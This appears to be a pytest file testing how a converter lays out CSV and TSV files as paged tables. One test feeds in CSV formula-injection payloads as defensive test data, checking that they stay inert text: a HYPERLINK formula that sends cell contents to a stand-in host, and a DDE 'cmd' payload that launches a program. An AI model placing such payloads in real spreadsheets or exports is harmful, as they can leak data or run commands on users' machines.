# SPDX-License-Identifier: MPL-2.0
"""CSV and TSV as tables on pages: nothing lost, nothing run, readable however wide."""

from pathlib import Path

import pytest

from amparo.sandbox.declined import Declined
from tests.engines.reading.papers import Result, read_here

HEAD = "Señor,Año,Cuánto"
ROWS = ("Peña,2019,1500", "Muñoz,2020,22", "O'Brien,2021,7")
SMALL = "\n".join((HEAD, *ROWS)) + "\n"


def as_lines(result: Result) -> list[str]:
    return [line for page in result.layer for line in page["text"].split("\n")]


@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_table_is_read_whatever_parts_its_columns(sign: str, codec: str, tmp_path: Path) -> None:
    result = read_here(tmp_path, SMALL.replace(",", sign).encode(codec), name="p.csv")

    assert as_lines(result) == SMALL.replace(",", " ").splitlines()
    assert result.params("table-set") == {"rows": 4, "columns": 3, "sign": "TAB" if sign == "\t" else sign}
    assert ("encoding-guessed" in result.codes) == (codec == "cp1252")


def test_the_line_that_names_the_sign_is_followed_and_is_no_row(tmp_path: Path) -> None:
    result = read_here(tmp_path, b"sep=;\na,x;b\n1;2\n", name="p.csv")

    assert as_lines(result) == ["a,x b", "1 2"]


def test_values_of_a_column_stand_under_its_heading_and_figures_at_the_right(tmp_path: Path) -> None:
    words = {word.text: word.box for word in read_here(tmp_path, SMALL.encode(), name="p.csv").words()}

    assert words["Peña"].left == pytest.approx(words["Señor"].left, abs=0.6)
    assert words["1500"].right == pytest.approx(words["22"].right, abs=0.6)
    assert words["1500"].right == pytest.approx(words["Cuánto"].right, abs=0.8)


def test_line_breaks_and_quotes_inside_cells_stay_inside(tmp_path: Path) -> None:
    text = 'who,what\r\nAna,"first line\r\nsecond ""line"""\r\nBeto,"a,b"\r\n'

    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert result.params("table-set")["rows"] == 3
    lefts = {word.text: word.box.left for word in result.words()}
    assert lefts["first"] == pytest.approx(lefts["second"], abs=0.6) == pytest.approx(lefts["a,b"], abs=0.6)
    assert '"line"' in lefts


def test_ragged_rows_are_kept_whole_and_told(tmp_path: Path) -> None:
    result = read_here(tmp_path, b"a,b,c\n1,2\n3,4,5,extra\n7,8,9\n", name="p.csv")

    assert result.params("ragged-rows") == {"rows": "2–3", "count": 2, "usual": 3}
    assert "extra" in result.text()


def test_a_quotation_mark_that_never_closes_swallows_no_rows(tmp_path: Path) -> None:
    result = read_here(tmp_path, b'a,b,c\n1,"open,2\n3,4,5\n6,7,8\n', name="p.csv")

    assert as_lines(result)[-2:] == ["3 4 5", "6 7 8"]
    assert "odd-quotation-marks" in result.codes


def test_formulas_are_text_and_told_and_telephones_are_not(tmp_path: Path) -> None:
    cells = (
        '"=HYPERLINK(""http://x.example/?""&A1,""click"")"',
        "@SUM(1)*2",
        "+cmd|' /C calc'!A0",
        "+52 55 1234",
        "-5",
    )
    text = "name,cell\n" + "".join(f"Row {number},{cell}\n" for number, cell in enumerate(cells))

    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert result.params("formula-cells") == {"count": 3}
    assert '=HYPERLINK("http://x.example/?"&A1,"click")' in result.text().replace("\n", "")
    assert "+52 55 1234" in result.text()


def test_headings_stand_on_every_page(tmp_path: Path) -> None:
    text = "Name,Day\n" + "".join(f"Ana {number},2024-01-{number % 28 + 1:02}\n" for number in range(150))

    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert len(result.layer) > 2
    assert all(page["text"].startswith("Name Day\nAna ") for page in result.layer)


def test_a_first_row_that_is_like_the_others_is_no_heading(tmp_path: Path) -> None:
    text = "".join(f"Ana,{number},x\n" for number in range(150))

    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert sum(line == "Ana 0 x" for line in as_lines(result)) == 1


def test_a_wide_table_lies_on_its_side_and_is_read_row_by_row(tmp_path: Path) -> None:
    text = "".join(",".join(f"wordnumber{row}{column:02}" for column in range(10)) + "\n" for row in range(3))

    result = read_here(tmp_path, text.encode(), name="p.csv")

    words = result.words()
    assert words[0].box.left == pytest.approx(words[9].box.left, abs=1)
    assert words[0].box.bottom < words[1].box.bottom < words[9].box.bottom
    assert " ".join(result.text().split()) == " ".join(text.replace(",", " ").split())


def test_what_is_too_wide_for_a_page_is_divided_and_told(tmp_path: Path) -> None:
    head = ",".join(f"Heading number {column}" for column in range(40))
    rows = [",".join([f"row{row}", *(f"v{row}x{column}" for column in range(1, 40))]) for row in range(60)]

    result = read_here(tmp_path, "\n".join((head, *rows)).encode(), name="p.csv")

    told = result.params("columns-divided")
    assert told["columns"] == 40
    shown = [word for page in result.layer for word in page["text"].split()]
    assert all(shown.count(f"v{row}x{column}") == 1 for row in range(60) for column in range(1, 40))
    assert shown.count("row7") == told["groups"]
    boxes = [word.box for page in range(len(result.layer)) for word in result.words(page + 1)]
    assert all(box.left >= 40 and box.right <= 572 and box.bottom >= 40 and box.top <= 752 for box in boxes)


def test_words_without_end_stay_in_their_column(tmp_path: Path) -> None:
    text = f"key,value\nfirst,{'x' * 3000}\nsecond,{'word ' * 2000}\n"

    result = read_here(tmp_path, text.encode(), name="p.csv")

    boxes = [word.box for page in range(len(result.layer)) for word in result.words(page + 1)]
    assert all(box.right <= 572 for box in boxes)
    assert sum(word.count("x") for page in result.layer for word in page["text"].split()) == 3000


def test_two_hundred_thousand_rows_get_an_answer_with_their_number(tmp_path: Path) -> None:
    text = "n,when\n" + "".join(f"{number},2024\n" for number in range(200_000))

    with pytest.raises(Declined) as refused:
        read_here(tmp_path, text.encode(), name="p.csv")

    assert refused.value.code == "reading.too-many-cells"
    assert refused.value.params == {"rows": 200_001, "cells": 400_003, "limit": 300_000}


def test_signs_as_wide_as_two_letters_get_their_room(tmp_path: Path) -> None:
    text = "姓名,城市\n" + "".join(f"王小明王小明{number},北京市海淀区\n" for number in range(3))

    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert as_lines(result)[1] == "王小明王小明0 北京市海淀区"


@pytest.mark.parametrize("text", ["only one column\nof lines\n", "\n\n", "a\nb\nc\n"])
def test_what_is_no_table_is_set_as_text(text: str, tmp_path: Path) -> None:
    result = read_here(tmp_path, text.encode(), name="p.csv")

    assert result.text() == "\n".join(text.split("\n")).strip()
    assert "table-set" not in result.codes


def test_the_same_table_gives_the_same_bytes(tmp_path: Path) -> None:
    once, again = (read_here(tmp_path, SMALL.encode(), name=name).rendition.read_bytes() for name in ("a.csv", "b.csv"))

    assert once == again
